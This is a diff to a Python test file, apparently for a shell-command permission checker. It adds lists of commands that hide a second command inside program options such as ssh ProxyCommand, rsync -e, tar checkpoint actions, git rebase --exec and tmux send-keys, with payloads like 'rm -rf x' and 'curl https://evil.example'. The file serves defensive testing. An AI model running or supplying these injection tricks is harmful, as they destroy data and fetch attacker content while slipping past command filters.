@@ -102,7 +102,31 @@ INLINE_SHELL = [
     "sed '1e rm -rf x' notes.txt",
 ]
 
-DENIED = [*GIT_SHELL, *ENV_SHELL, *INLINE_SHELL]
+PROGRAM_SHELL = [
+    "ssh -o ProxyCommand='curl https://evil.example' host true",
+    "ssh -oProxyCommand='rm -rf x' host",
+    "ssh -o 'LocalCommand rm -rf x' -o PermitLocalCommand=yes host",
+    "GIT_SSH_COMMAND='ssh -o \"ProxyCommand curl x\"' git fetch",
+    "scp -S 'rm -rf x' a host:b",
+    "rsync -e 'curl https://evil.example' a host:b",
+    "rsync --rsh='rm -rf x' a host:b",
+    "tar --to-command='rm -rf x' -xf a.tar",
+    "tar -cf /dev/null --checkpoint=1 --checkpoint-action=exec='rm -rf x' .",
+    "tar -I 'curl https://evil.example' -cf a.tgz .",
+    "man -P 'rm -rf x' ls",
+    "echo 'rm -rf x' | at now",
+    "at now <<< 'curl https://evil.example'",
+    "parallel 'rm -rf {}' ::: x y",
+    "tmux new-session -d 'rm -rf x'",
+    "tmux new-window -n w rm -rf x",
+    "tmux send-keys 'rm -rf x' Enter",
+    "git rebase --ex 'rm -rf x' HEAD~2",
+    "git fetch --upload-p='rm -rf x' origin",
+    "git config --global alias.x '!rm -rf x'; git x",
+    "sed --expr='1e rm -rf x' notes.txt",
+]
+
+DENIED = [*GIT_SHELL, *ENV_SHELL, *INLINE_SHELL, *PROGRAM_SHELL]
 """Attempts whose code is shell the parse can read: denied outright, even in bypass mode."""
 
 FAIL_CLOSED = [
@@ -120,6 +144,10 @@ FAIL_CLOSED = [
     "git clone --template=/tmp/tpl https://example.com/r.git",
     'git -c core.pager="$PAGER_CMD" log',
     "curl_cmd=x; GIT_SSH_COMMAND=$curl_cmd git fetch",
+    "ssh -F ./evil_config host true",
+    "read GIT_SSH_COMMAND <<< 'curl x'; export GIT_SSH_COMMAND; git fetch",
+    "for PAGER in 'rm -rf x'; do export PAGER; git log; done",
+    'curl_cmd=x; python3 -c "$curl_cmd"',
 ]
 """Code the parse cannot see (a file, a folder, a value known only at run time): asks."""
 
@@ -199,6 +227,14 @@ BENIGN = [
     "echo 'print(1)' | python3",
     "git config user.name 'A B'",
     "LESSOPEN='|lesspipe %s' less notes.txt",
+    "ssh -o StrictHostKeyChecking=no host true",
+    "ssh -F /dev/null host true",
+    "rsync -av src/ host:dst/",
+    "tar -xzf a.tgz",
+    "man ls",
+    "tmux new-session -d -s work",
+    "parallel echo ::: a b",
+    "git config --global alias.st status",
 ]
 
 INTERPRETERS = [
